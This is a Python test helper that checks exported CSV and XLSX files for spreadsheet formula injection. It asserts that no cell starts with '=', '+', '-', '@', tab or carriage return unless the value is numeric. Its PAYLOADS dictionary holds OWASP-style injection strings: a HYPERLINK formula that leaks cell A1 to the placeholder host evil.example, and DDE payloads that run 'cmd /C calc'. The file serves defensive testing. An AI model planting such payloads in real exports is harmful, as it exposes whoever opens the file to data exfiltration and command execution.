"""Reading exported CSV/XLSX back the way a spreadsheet would, to check for formula injection."""

import csv
import io
from decimal import Decimal, InvalidOperation

import openpyxl

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# One payload per dangerous first character (OWASP's CSV-injection list).
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def is_numeric_text(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def csv_fields(text: str) -> list[list[str]]:
    """Every row of the CSV, as csv.reader splits it; each unsafe field fails the test."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for number, row in enumerate(rows, start=1):
        for field in row:
            assert not field.startswith(FORMULA_PREFIXES) or is_numeric_text(field), (
                f"CSV row {number}: unescaped {field!r}"
            )
    return rows


def xlsx_cells(data: bytes) -> dict[str, list]:
    """Every non-empty cell per sheet; a formula cell or an unescaped text fails the test."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = {}
    for sheet in book.worksheets:
        cells[sheet.title] = []
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
                    assert not cell.value.startswith(FORMULA_PREFIXES), (
                        f"{sheet.title}!{cell.coordinate}: unescaped {cell.value!r}"
                    )
                cells[sheet.title].append(cell)
    return cells


def xlsx_rows(data: bytes, sheet: str | None = None) -> list[list]:
    """The values of one sheet (the first by default), after the checks of xlsx_cells."""
    xlsx_cells(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book[sheet] if sheet else book.worksheets[0]
    return [list(r) for r in ws.iter_rows(values_only=True)]


def cell_types(data: bytes, sheet: str | None = None) -> list[list[str]]:
    """The data type of each cell ('n' number, 's' string) of one sheet."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book[sheet] if sheet else book.worksheets[0]
    return [[c.data_type for c in row] for row in ws.iter_rows()]
